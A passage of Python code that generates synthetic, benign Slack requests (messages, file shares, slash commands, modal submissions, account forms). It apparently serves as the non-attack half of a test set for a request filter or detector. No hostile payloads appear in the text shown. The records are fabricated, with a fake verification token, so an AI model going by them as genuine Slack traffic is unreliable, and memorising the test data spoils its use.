            name = self.fill(self.r.choice(["query.%s", "repro.%s", "%svc%-debug.%s", "Untitled.%s",
                                            "output.%s", "migration_%ymdc%.%s", "snippet.%s"]).replace("%s", ext))
            base.update({"name": name, "title": name, "mimetype": "text/plain", "filetype": lang,
                         "pretty_type": lang.capitalize() if lang != "sql" else "SQL", "size": len(code.encode()),
                         "mode": "snippet", "preview": "\n".join(lines[:5]), "lines": len(lines),
                         "lines_more": max(0, len(lines) - 5), "preview_is_truncated": len(lines) > 5,
                         "edit_link": f"https://{self.domain}.slack.com/files/{uid}/{file_id}/{name}/edit"})
            if self.r.random() < 0.5:
                base["preview_highlight"] = ("<div class=\"CodeMirror cm-s-default CodeMirrorServer\">\n"
                                             "<div class=\"CodeMirror-code\">\n"
                                             + "".join(f"<div><pre>{html.escape(ln, quote=False)}</pre></div>\n"
                                                       for ln in lines[:5]) + "</div>\n</div>\n")
        elif kind == "image":
            clock = f"{self.r.randint(8, 19)}.{self.r.randint(10, 59)}.{self.r.randint(10, 59)}"
            name = f"Screenshot {self.ymd()} at {clock}.png"
            base.update({"name": name, "title": name, "mimetype": "image/png", "filetype": "png",
                         "pretty_type": "PNG", "size": self.r.randint(40_000, 2_000_000), "mode": "hosted",
                         "original_w": 2880, "original_h": 1800, "thumb_64": f"https://files.slack.com/files-tmb/"
                         f"{self.team}-{file_id}-{self._hex(10)}/image_64.png", "is_starred": False})
        else:
            name = self.fill(self.r.choice(["postmortem-%ymd%.pdf", "Pentest report Q2.pdf", "Architektur.pdf",
                                            "請求書_%ymdc%.pdf", "runbook-%svc%.pdf"]))
            base.update({"name": name, "title": name, "mimetype": "application/pdf", "filetype": "pdf",
                         "pretty_type": "PDF", "size": self.r.randint(80_000, 5_000_000), "mode": "hosted"})
        quoted = urllib.parse.quote(base["name"])
        base.update({"url_private": f"https://files.slack.com/files-pri/{self.team}-{file_id}/{quoted}",
                     "url_private_download": f"https://files.slack.com/files-pri/{self.team}-{file_id}/download/"
                                             f"{quoted}",
                     "permalink": f"https://{self.domain}.slack.com/files/{uid}/{file_id}/{quoted}",
                     "permalink_public": f"https://slack-files.com/{self.team}-{file_id}-{self._hex(10)}"})
        comment = self.parse(self.r.choice(["", "", "full output attached", "the query from standup",
                                            "repro script :point_down:", "{@} here you go", "see snippet",
                                            "logs from %host%", "Log im Anhang", "voir le fichier", "ログです"]))
        now = self.ts(at)
        event: dict[str, Any] = {"type": "message", "subtype": "file_share", "text": render_text(comment),
                                 "files": [base], "upload": False, "user": uid, "display_as_bot": False,
                                 "ts": now, "channel": self.channel()[0], "event_ts": now,
                                 "channel_type": "channel"}
        if comment:
            event["blocks"] = render_blocks(comment, self.block_id())
            event["client_msg_id"] = self.client_msg_id()
        return self.event_record(event, at)

    def ev_reaction_added(self) -> dict[str, Any]:
        at = self.tick()
        reaction = self.r.choice(list(EMOJI) + CUSTOM_EMOJI + ["thumbsup::skin-tone-3", "+1::skin-tone-5"])
        event = {"type": "reaction_added", "user": self.user()[0], "reaction": reaction,
                 "item_user": self.user()[0], "item": {"type": "message", "channel": self.channel()[0],
                                                       "ts": self.ts(at - self.r.randint(1, 5000))},
                 "event_ts": self.ts(at)}
        return self.event_record(event, at)

    def ev_member_joined(self) -> dict[str, Any]:
        at = self.tick()
        event = {"type": "member_joined_channel", "user": self.user()[0], "channel": self.channel()[0],
                 "channel_type": self.r.choice(["C", "G"]), "team": self.team, "event_ts": self.ts(at)}
        if self.r.random() < 0.5:
            event["inviter"] = self.user()[0]
        return self.event_record(event, at)

    def ev_channel_created(self) -> dict[str, Any]:
        at = self.tick()
        name = self.fill(self.r.choice(["inc-%ymdc%-checkout-502s", "proj-%svc%-v2", "tmp-pg16-upgrade",
                                        "team-%repo%", "help-%repo%", "ext-partner-%hex%", "guild-frontend",
                                        "offsite-2024", "oncall-handover", "rfc-%n%-rate-limits"]))
        cid = self.unique(lambda: "C0" + self._alnum(9))
        event = {"type": "channel_created", "channel": {"id": cid, "name": name, "created": at,
                                                        "creator": self.user()[0], "is_channel": True,
                                                        "is_shared": False, "is_org_shared": False,
                                                        "context_team_id": self.team, "name_normalized": name},
                 "event_ts": self.ts(at)}
        return self.event_record(event, at)

    def ev_app_home_opened(self) -> dict[str, Any]:
        at = self.tick()
        event: dict[str, Any] = {"type": "app_home_opened", "user": self.user()[0], "channel": "D0" + self._alnum(9),
                                 "tab": self.r.choice(["home", "home", "messages"]), "event_ts": self.ts(at)}
        if event["tab"] == "home" and self.r.random() < 0.6:
            event["view"] = {"id": "V0" + self._alnum(9), "team_id": self.team, "type": "home",
                             "blocks": [{"type": "section", "block_id": self.block_id(), "text": {
                                 "type": "mrkdwn", "text": "*Jeeves* at your service. Try `weather` or `login`.",
                                 "verbatim": False}}],
                             "private_metadata": "", "callback_id": "", "state": {"values": {}},
                             "hash": f"{at}.{self._alnum(8)}", "clear_on_close": False, "notify_on_close": False,
                             "root_view_id": "V0" + self._alnum(9), "app_id": self.app, "external_id": "",
                             "app_installed_team_id": self.team, "bot_id": self.bot_id}
        return self.event_record(event, at)

    def ev_link_shared(self) -> dict[str, Any]:
        at = self.tick()
        links = []
        for _ in range(self.r.randint(1, 3)):
            url = self.url()[0]
            links.append({"domain": urllib.parse.urlsplit(url).hostname or "acme.io", "url": url})
        event = {"type": "link_shared", "channel": self.channel()[0], "is_bot_user_member": True,
                 "user": self.user()[0], "message_ts": self.ts(at), "unfurl_id": f"{self.ts(at)}." + self._alnum(20),
                 "source": self.r.choice(["conversations_history", "composer"]), "links": links,
                 "event_ts": self.ts(at)}
        if self.r.random() < 0.3:
            event["thread_ts"] = self.ts(at - 600)
        return self.event_record(event, at)

    def profile(self, uid: str, handle: str, name: str) -> dict[str, Any]:
        first, _, last = name.partition(" ")
        titles = ["Senior Backend Engineer", "SRE", "Staff Engineer — Platform", "Frontend Developer",
                  "Data Engineer", "Engineering Manager", "Security Engineer", "QA", "Product Designer",
                  "Ingeniera de software", "Softwareentwickler", "バックエンドエンジニア", "后端工程师",
                  "Разработчик", "Développeur full-stack", "CTO"]
        status = self.r.choice([("", ""), ("In a meeting", ":calendar:"), ("On call :pager:", ":rotating_light:"),
                                ("Vacationing", ":palm_tree:"), ("Working remotely from " + self.r.choice(CITIES),
                                                                 ":house_with_garden:"),
                                ("heads down, ping if urgent", ":headphones:"), ("commuting", ":train:")])
        avatar = self._hex(12)
        return {"title": self.r.choice(titles), "phone": self.r.choice(["", "+49 30 1234567", "+1 (415) 555-0142",
                                                                       "+81 3-1234-5678"]),
                "skype": "", "real_name": name, "real_name_normalized": name, "display_name": handle,
                "display_name_normalized": handle, "fields": None, "status_text": status[0],
                "status_emoji": status[1], "status_emoji_display_info": [], "status_expiration": 0,
                "avatar_hash": avatar, "first_name": first, "last_name": last, "email": f"{handle}@acme.io",
                "image_24": f"https://avatars.slack-edge.com/2024-03-01/{avatar}_24.jpg",
                "image_72": f"https://avatars.slack-edge.com/2024-03-01/{avatar}_72.jpg",
                "pronouns": self.r.choice(["", "she/her", "he/him", "they/them"]), "team": self.team}

    def user_object(self, uid: str, handle: str, name: str, at: int) -> dict[str, Any]:
        tz, label, offset = self.r.choice([("Europe/Berlin", "Central European Summer Time", 7200),
                                           ("America/Sao_Paulo", "Brasilia Time", -10800),
                                           ("Asia/Tokyo", "Japan Standard Time", 32400),
                                           ("America/New_York", "Eastern Daylight Time", -14400),
                                           ("Asia/Kolkata", "India Standard Time", 19800),
                                           ("Europe/Kyiv", "Eastern European Summer Time", 10800)])
        return {"id": uid, "team_id": self.team, "name": handle, "deleted": False, "color": self._hex(6),
                "real_name": name, "tz": tz, "tz_label": label, "tz_offset": offset,
                "profile": self.profile(uid, handle, name), "is_admin": False, "is_owner": False,
                "is_primary_owner": False, "is_restricted": False, "is_ultra_restricted": False, "is_bot": False,
                "is_app_user": False, "updated": at, "is_email_confirmed": True, "who_can_share_contact_card":
                "EVERYONE", "locale": self.r.choice(["en-US", "de-DE", "ja-JP", "pt-BR", "es-ES", "fr-FR"])}

    def ev_team_join(self) -> dict[str, Any]:
        at = self.tick()
        handle, name = self.r.choice(PEOPLE)
        uid = self.unique(lambda: "U0" + self._alnum(9))
        event = {"type": "team_join", "user": self.user_object(uid, handle + str(self.r.randint(2, 9)), name, at),
                 "cache_ts": at, "event_ts": self.ts(at)}
        return self.event_record(event, at)

    def ev_user_change(self) -> dict[str, Any]:
        at = self.tick()
        uid, handle, name = self.user()
        event = {"type": "user_change", "user": self.user_object(uid, handle, name, at), "cache_ts": at,
                 "event_ts": self.ts(at)}
        return self.event_record(event, at)

    def url_verification(self) -> dict[str, Any]:
        at = self.tick()
        body = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "challenge": self._alnum(48) if self.r.random() < 0.5 else
                "".join(self.r.choice(string.ascii_letters + string.digits) for _ in range(48)),
                "type": "url_verification"}
        rec = _json("/slack/events", body)
        rec["headers"] = slack_headers(at, "application/json")
        return rec

    # -- slash commands --
    def command_text(self) -> tuple[str, str]:
        r = self.r
        cmd = r.choice(["/deploy", "/jeeves", "/weather", "/oncall", "/incident", "/sql", "/kubectl", "/logs",
                        "/remind", "/poll", "/jira", "/runbook", "/flag", "/giphy", "/grafana", "/standup",
                        "/feedback", "/translate", "/curl", "/regex", "/ask", "/snippet", "/pr", "/lunch"])
        city = r.choice(CITIES)
        text = {
            "/deploy": lambda: self.fill(r.choice(["%svc% %ver% to prod", "%svc% %branch% staging --dry-run",
                                                   "rollback %svc% prod", "status %svc%", "%svc% %sha% --canary 10%"])),
            "/jeeves": lambda: r.choice(["weather", f"weather {city}", f"remember location {city}", "help",
                                         "login", "forget location", f"weather tomorrow in {city}", ""]),
            "/weather": lambda: city,
            "/oncall": lambda: r.choice(["", "who", "payments", "swap with {mention} on friday",
                                         "override 2h"]),
            "/incident": lambda: self.fill(r.choice(['declare "Checkout 502s" sev2', "status", "resolve",
                                                     'declare "%svc% latency > 2s" sev3 #incidents',
                                                     "timeline add rolled back %svc% to %ver%"])),
            "/sql": lambda: self.fill(r.choice(SQL_ONELINERS + [s for s in SQL if "\n" not in s])),
            "/kubectl": lambda: self.fill(r.choice(["get pods -n %ns%", "logs deploy/%svc% -n %ns% --tail=100",
                                                    "describe pod %pod% -n %ns%", "top nodes",
                                                    "get events -n %ns% --field-selector type=Warning"])),
            "/logs": lambda: self.fill(r.choice(['%svc% --since 10m --grep "timeout"',
                                                 '%svc% --level error --since 1h',
                                                 '%svc% --grep "status=5[0-9][0-9]"',
                                                 "edge-gateway --grep 'GET /api/v1/orders?status=pending'"])),
            "/remind": lambda: r.choice(['#deploys "freeze starts" at 6pm Thursday',
                                         'me to "review the migration PR" in 2 hours',
                                         '@here "standup" every weekday at 9:30am',
                                         'me "rotate the staging certs" on July 1st']),
            "/poll": lambda: r.choice(['"Lunch?" "Pizza" "Sushi" "Döner" "Salad"',
                                       '"Retro format?" "Start/Stop/Continue" "4Ls" "Sailboat"',
                                       '"Postgres 16 upgrade date" "Jul 2" "Jul 9"']),
            "/jira": lambda: self.fill(r.choice(['create PAY "Refund webhook retries forever"',
                                                 "%ticket%", 'create SRE "Alert: disk 90% on %host%"',
                                                 'comment %ticket% "fixed in %sha%"'])),
            "/runbook": lambda: r.choice(["nginx 502", "postgres failover", "redis memory", "rotate secrets",
                                          "certificate renewal", "kafka consumer lag"]),
            "/flag": lambda: r.choice(["enable new_checkout --percent 10", "disable search_v2", "status",
                                       "enable dark_mode --users U012AB3CD,U045EF6GH"]),
            "/giphy": lambda: r.choice(["ship it", "this is fine", "friday", "mind blown", "deploy"]),
            "/grafana": lambda: self.url()[0] if r.random() < 0.5 else "api-latency last 6h",
            "/standup": lambda: self.fill(r.choice(["y: fixed the refund rounding (%ticket%)\nt: pg16 upgrade "
                                                    "prep\nb: none", "gestern: Migration getestet; heute: Review",
                                                    "hier : debug du `SELECT` lent ; aujourd'hui : index"])),
            "/feedback": lambda: plain_text(self.parse(r.choice(CHAT))),
            "/translate": lambda: r.choice(["ja Where is the meeting room?", "de Can you review my PR?",
                                            "en これ本番で実行しても大丈夫？", "pt ¿Quién está de guardia?"]),
            "/curl": lambda: self.fill(r.choice(["https://%host%/healthz", "-I https://api.acme.io/readyz",
                                                 "https://api.acme.io/v1/status?verbose=1&region=%region%"])),
            "/regex": lambda: r.choice(REGEX) + " " + self.fill(r.choice(["2024-06-22T10:15:32Z", "%email%",
                                                                           "PAY-4512", "v1.2.3-rc.1"])),
            "/ask": lambda: self.fill(r.choice([f"how do I run `{r.choice(SQL_ONELINERS)}` against the replica?",
                                                f"why does `{r.choice(SHELL_ONELINERS)}` hang?",
                                                f"what does `{r.choice(ERRORS)}` mean?",
                                                f"where is `{r.choice(PATHS)}` configured?"])),
            "/snippet": lambda: self.snippet(r.choice(["sql", "shell", "code", "config"])),
            "/pr": lambda: self.url()[0] if r.random() < 0.7 else self.fill("%repo% %pr%"),
            "/lunch": lambda: r.choice(["", "ramen", "who's in?", "Döner um 12:30?", "お昼どうする？"]),
        }[cmd]()
        if len(text) > 1900:
            text = text[:1900]
        if cmd == "/feedback" and r.random() < 0.5:
            return cmd, render_text(self.parse(r.choice(CHAT)))     # "escape channels, users and links" on
        uid, handle, _ = self.user()
        return cmd, escape(text).replace("{mention}", f"<@{uid}|{handle}>")

    def slash_command(self) -> dict[str, Any]:
        at = self.tick()
        uid, handle, _ = self.user()
        cid, cname = self.channel() if self.r.random() < 0.8 else ("D0" + self._alnum(9), "directmessage")
        cmd, text = self.command_text()
        trigger = f"{self.r.randint(10**12, 10**13 - 1)}.{self.r.randint(10**11, 10**12 - 1)}.{self._hex(32)}"
        fields = [("token", "Jhj5dZrVaK7ZwHHjRyZWjbDl"), ("team_id", self.team), ("team_domain", self.domain),
                  ("channel_id", cid), ("channel_name", cname), ("user_id", uid), ("user_name", handle),
                  ("command", cmd), ("text", text), ("api_app_id", self.app), ("is_enterprise_install", "false"),
                  ("response_url", f"https://hooks.slack.com/commands/{self.team}/{self.r.randint(10**12, 10**13)}/"
                                   f"{self._alnum(24)}"),
                  ("trigger_id", trigger)]
        rec = _form("/slack/commands", fields)
        rec["headers"] = slack_headers(at, "application/x-www-form-urlencoded")
        return rec

    # -- interactivity --
    def actor(self) -> tuple[dict[str, Any], dict[str, Any]]:
        uid, handle, name = self.user()
        return ({"id": uid, "username": handle, "name": handle, "team_id": self.team},
                {"id": self.team, "domain": self.domain})

    def payload_record(self, payload: dict[str, Any], at: int) -> dict[str, Any]:
        raw = json.dumps(payload, ensure_ascii=self.r.random() < 0.5, separators=(",", ":"))
        if self.r.random() < 0.5:
            raw = raw.replace("/", "\\/")            # Slack's encoder escapes slashes
        rec = _form("/slack/interactions", [("payload", raw)])
        rec["headers"] = slack_headers(at, "application/x-www-form-urlencoded")
        return rec

    def response_url(self, kind: str = "actions") -> str:
        return f"https://hooks.slack.com/{kind}/{self.team}/{self.r.randint(10**12, 10**13)}/{self._alnum(24)}"

    def trigger_id(self) -> str:
        return f"{self.r.randint(10**12, 10**13 - 1)}.{self.r.randint(10**11, 10**12 - 1)}.{self._hex(32)}"

    def block_actions(self) -> dict[str, Any]:
        at = self.tick()
        user, team = self.actor()
        cid, cname = self.channel()
        msg_ts = self.ts(at - self.r.randint(2, 600))
        r = self.r
        kind = r.choice(["location", "forget", "forget_cancel", "deploy", "alert", "select", "overflow"])
        if kind in ("location", "forget", "forget_cancel"):
            action_id = {"location": "set_location", "forget": "forget_me_confirm",
                         "forget_cancel": "forget_me_cancel"}[kind]
            value = r.choice(CITIES) if kind == "location" else r.choice(["yes", "forget", "cancel", ""])
            text = {"location": f"Save *{value}* as your location?", "forget": "Forget everything I know about "
                    "you? This cannot be undone.", "forget_cancel": "Forget everything I know about you?"}[kind]
            action: dict[str, Any] = {"action_id": action_id, "block_id": self.block_id(), "type": "button",
                                      "text": {"type": "plain_text", "text": r.choice(["Yes", "Save", "Cancel",
                                                                                       "Forget me"]), "emoji": True},
                                      "value": value, "action_ts": self.ts(at)}
            message_blocks = [{"type": "section", "block_id": self.block_id(), "text": {"type": "mrkdwn",
                                                                                         "text": text}}]
            msg_text = text
        else:
            parts = self.message_parts()
            msg_text = render_text(parts)
            message_blocks = [{"type": "section", "block_id": self.block_id(),
                               "text": {"type": "mrkdwn", "text": msg_text, "verbatim": False}}]
            if kind == "deploy":
                value = json.dumps({"svc": r.choice(SERVICES), "ver": self.fill("%ver%"), "env": "prod"})
                action = {"action_id": "approve_deploy", "block_id": self.block_id(), "type": "button",
                          "text": {"type": "plain_text", "text": "Approve :white_check_mark:", "emoji": True},
                          "style": "primary", "value": value, "action_ts": self.ts(at)}
            elif kind == "alert":
                action = {"action_id": "ack_alert", "block_id": self.block_id(), "type": "button",
                          "text": {"type": "plain_text", "text": "Acknowledge", "emoji": True},
                          "value": self.fill("alert-%hex%"), "action_ts": self.ts(at)}
            elif kind == "select":
                env = r.choice(["prod", "staging", "dev"])
                action = {"action_id": "pick_env", "block_id": self.block_id(), "type": "static_select",
                          "selected_option": {"text": {"type": "plain_text", "text": env.title(), "emoji": True},
                                              "value": env},
                          "placeholder": {"type": "plain_text", "text": "Environment", "emoji": True},
                          "action_ts": self.ts(at)}
            else:
                action = {"action_id": "msg_menu", "block_id": self.block_id(), "type": "overflow",
                          "selected_option": {"text": {"type": "plain_text", "text": "Open in Grafana",
                                                       "emoji": True}, "value": self.url()[0]},
                          "action_ts": self.ts(at)}
        payload: dict[str, Any] = {
            "type": "block_actions", "user": user, "api_app_id": self.app, "token": "Jhj5dZrVaK7ZwHHjRyZWjbDl",
            "container": {"type": "message", "message_ts": msg_ts, "channel_id": cid, "is_ephemeral":
                          r.random() < 0.3},
            "trigger_id": self.trigger_id(), "team": team, "enterprise": None, "is_enterprise_install": False,
            "channel": {"id": cid, "name": cname},
            "message": {"bot_id": self.bot_id, "type": "message", "text": msg_text, "user": self.bot_user,
                        "ts": msg_ts, "app_id": self.app, "blocks": message_blocks, "team": self.team},
            "state": {"values": {}}, "response_url": self.response_url(), "actions": [action],
        }
        return self.payload_record(payload, at)

    def view_submission(self) -> dict[str, Any]:
        at = self.tick()
        user, team = self.actor()
        r = self.r
        form = r.choice(["incident", "db_access", "bug", "feedback", "ticket", "maintenance"])
        title = {"incident": "Declare incident", "db_access": "Request DB access", "bug": "Report a bug",
                 "feedback": "Feedback", "ticket": "Create Jira ticket", "maintenance": "Schedule maintenance"}[form]

        def inp(value: str) -> dict[str, Any]:
            return {"type": "plain_text_input", "value": value}

        def text_of(kind: str) -> str:
            intro = self.fill(r.choice(INTROS[kind]))
            return f"{intro}\n\n{self.snippet(kind)}"

        values: dict[str, dict[str, Any]] = {}
        if form == "incident":
            values = {
                "title": {"title_input": inp(self.fill(r.choice(["Checkout 502s", "%svc% latency > 2s",
                                                                  "Login failures for SSO users",
                                                                  "Webhooks delayed ~20 min"])))},
                "severity": {"severity_select": {"type": "static_select", "selected_option": {
                    "text": {"type": "plain_text", "text": "SEV2", "emoji": True}, "value": "sev2"}}},
                "description": {"description_input": inp(text_of(r.choice(["log", "trace", "shell"])))},
            }
        elif form == "db_access":
            values = {
                "database": {"db_select": {"type": "static_select", "selected_option": {
                    "text": {"type": "plain_text", "text": "app (read replica)", "emoji": True}, "value": "app_ro"}}},
                "justification": {"why": inp(self.fill(r.choice(["Investigating %ticket%, need to run:",
                                                                  "Monthly revenue report", "Debugging duplicate "
                                                                  "invoices for account %id%"])))},
                "query": {"query_input": inp(self.snippet("sql"))},
                "until": {"date": {"type": "datepicker", "selected_date": self.ymd()}},
            }
        elif form == "bug":
            values = {
                "summary": {"summary_input": inp(self.fill(r.choice(ERRORS)))},
                "steps": {"steps_input": inp("1. " + self.fill(r.choice(SHELL_ONELINERS)) + "\n2. "
                                             + self.fill(r.choice(SHELL)) + "\n3. see error")},
                "expected": {"expected_input": inp("200 with the order list")},
                "actual": {"actual_input": inp(self.snippet(r.choice(["trace", "log"])))},
            }
        elif form == "feedback":
            values = {"feedback": {"feedback_input": inp(plain_text(self.parse(r.choice(CHAT))))},
                      "anonymous": {"anon": {"type": "checkboxes", "selected_options": [] if r.random() < 0.5 else [
                          {"text": {"type": "plain_text", "text": "Send anonymously"}, "value": "anon"}]}}}
        elif form == "ticket":
            values = {
                "project": {"project_select": {"type": "static_select", "selected_option": {
                    "text": {"type": "plain_text", "text": r.choice(ISSUE_KEYS)}, "value": r.choice(ISSUE_KEYS)}}},
                "summary": {"summary_input": inp(self.fill(r.choice(["Slow query on %table%", "Flaky test in %svc%",
                                                                      "Upgrade %svc% to %ver%"])))},
                "description": {"description_input": inp(text_of(r.choice(["sql", "code", "config", "regex"])))},
            }
        else:
            values = {
                "window": {"start": {"type": "datetimepicker", "selected_date_time": at + 86400 * r.randint(1, 14)}},
                "commands": {"commands_input": inp("\n".join(self.fill(c) for c in r.sample(SHELL, 3)))},
                "notify": {"channels": {"type": "multi_conversations_select",
                                        "selected_conversations": [self.channel()[0], self.channel()[0]]}},
            }
        blocks = [{"type": "input", "block_id": block, "label": {"type": "plain_text", "text": block.title(),
                                                                  "emoji": True},
                   "element": {"type": next(iter(v.values()))["type"], "action_id": next(iter(v))},
                   "optional": False, "dispatch_action": False}
                  for block, v in values.items()]
        view = {"id": "V0" + self._alnum(9), "team_id": self.team, "type": "modal", "blocks": blocks,
                "private_metadata": json.dumps({"channel": self.channel()[0]}) if r.random() < 0.5 else "",
                "callback_id": form, "state": {"values": values}, "hash": f"{at}.{self._alnum(8)}",
                "title": {"type": "plain_text", "text": title, "emoji": True}, "clear_on_close": False,
                "notify_on_close": False, "close": {"type": "plain_text", "text": "Cancel", "emoji": True},
                "submit": {"type": "plain_text", "text": "Submit", "emoji": True}, "previous_view_id": None,
                "root_view_id": "V0" + self._alnum(9), "app_id": self.app, "external_id": "",
                "app_installed_team_id": self.team, "bot_id": self.bot_id}
        payload = {"type": "view_submission", "team": team, "user": user, "api_app_id": self.app,
                   "token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "trigger_id": self.trigger_id(), "view": view,
                   "response_urls": [], "is_enterprise_install": False, "enterprise": None}
        return self.payload_record(payload, at)

    def shortcut(self) -> dict[str, Any]:
        at = self.tick()
        user, team = self.actor()
        payload = {"type": "shortcut", "token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "action_ts": self.ts(at), "team": team,
                   "user": user, "is_enterprise_install": False, "enterprise": None,
                   "callback_id": self.r.choice(["create_incident", "quick_note", "request_db_access",
                                                 "weather_here", "report_bug"]),
                   "trigger_id": self.trigger_id()}
        return self.payload_record(payload, at)

    def message_action(self) -> dict[str, Any]:
        at = self.tick()
        user, team = self.actor()
        cid, cname = self.channel()
        author = self.user()[0]
        msg, _ = self.human_message(author, self.ts(at - self.r.randint(10, 90000)))
        payload = {"type": "message_action", "token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "action_ts": self.ts(at),
                   "team": team, "user": user, "channel": {"id": cid, "name": cname}, "is_enterprise_install": False,
                   "enterprise": None,
                   "callback_id": self.r.choice(["create_ticket_from_message", "save_to_runbook", "translate_message",
                                                 "report_message", "explain_error"]),
                   "trigger_id": self.trigger_id(), "response_url": self.response_url("app"),
                   "message_ts": msg["ts"], "message": {k: v for k, v in msg.items() if k != "team"}}
        return self.payload_record(payload, at)

    # -- the signed-in user's pages --
    def csrf(self) -> str:
        return "".join(self.r.choice(string.ascii_letters + string.digits + "-_") for _ in range(43))

    def account_form(self) -> tuple[str, dict[str, Any]]:
        r = self.r
        kind = r.choice(["signin-link", "me-location", "me-location", "me-settings", "me-settings", "me-forget",
                         "me-logout", "me-location-forget"])
        csrf = ("csrf_token", self.csrf())
        if kind == "signin-link":
            rec = _form("/auth/slack/link/" + self.csrf(), [csrf])
        elif kind == "me-location":
            rec = _form("/me/location", [csrf, ("place", r.choice(CITIES))])
        elif kind == "me-settings":
            fields = [csrf, ("units", r.choice(["metric", "imperial"])),
                      ("alert_time", f"{r.randint(5, 10):02d}:{r.choice(['00', '15', '30', '45'])}"),
                      ("timezone", r.choice(["Europe/Berlin", "America/Sao_Paulo", "Asia/Tokyo", "America/New_York",
                                             "Asia/Kolkata", "Europe/Kyiv", "UTC", "Australia/Sydney"]))]
            if r.random() < 0.7:
                fields.append(("alerts", "on"))
            rec = _form("/me/settings", fields)
        elif kind == "me-forget":
            rec = _form("/me/forget", [csrf, ("confirm", "forget")])
        elif kind == "me-logout":
            rec = _form("/me/logout", [csrf])
        else:
            rec = _form("/me/location/forget", [csrf])
        rec["headers"]["User-Agent"] = r.choice(BROWSER_UAS)
        return kind, rec


# ---- the set ---------------------------------------------------------------------------------------------

PLAN: list[tuple[str, int]] = [
    ("message", 330), ("message-im", 50), ("message_changed", 90), ("message_deleted", 35),
    ("thread_broadcast", 45), ("bot_message", 80), ("file_share", 75), ("me_message", 20), ("app_mention", 90),
    ("reaction_added", 40), ("member_joined_channel", 20), ("channel_created", 20), ("app_home_opened", 20),
    ("link_shared", 45), ("team_join", 15), ("user_change", 30), ("url_verification", 10),
    ("slash_command", 240), ("block_actions", 70), ("view_submission", 60), ("shortcut", 20),
    ("message_action", 45), ("account", 40),
]


attacks = no_attacks


def benign() -> Iterator[dict[str, Any]]:
    """~1,500 benign Slack requests in an interleaved, time-ordered stream."""
    b = Builder()
    makers: dict[str, Callable[[], dict[str, Any]]] = {
        "message": b.ev_message, "message-im": lambda: b.ev_message("im"),
        "message_changed": b.ev_message_changed, "message_deleted": b.ev_message_deleted,
        "thread_broadcast": b.ev_thread_broadcast, "bot_message": b.ev_bot_message, "file_share": b.ev_file_share,
        "me_message": b.ev_me_message, "app_mention": b.ev_app_mention, "reaction_added": b.ev_reaction_added,
        "member_joined_channel": b.ev_member_joined, "channel_created": b.ev_channel_created,
        "app_home_opened": b.ev_app_home_opened, "link_shared": b.ev_link_shared, "team_join": b.ev_team_join,
        "user_change": b.ev_user_change, "url_verification": b.url_verification,
        "slash_command": b.slash_command, "block_actions": b.block_actions, "view_submission": b.view_submission,
        "shortcut": b.shortcut, "message_action": b.message_action,
    }
    order = [kind for kind, count in PLAN for _ in range(count)]
    b.r.shuffle(order)
    for n, kind in enumerate(order, start=1):
        if kind == "account":
            sub, rec = b.account_form()
        else:
            sub, rec = kind, makers[kind]()
        placement = "json" if rec["uri"] == "/slack/events" else "form"
        yield {**rec, "id": f"slack2-benign-{sub}-{n:04d}", "category": "benign", "placement": placement, "sub": sub}
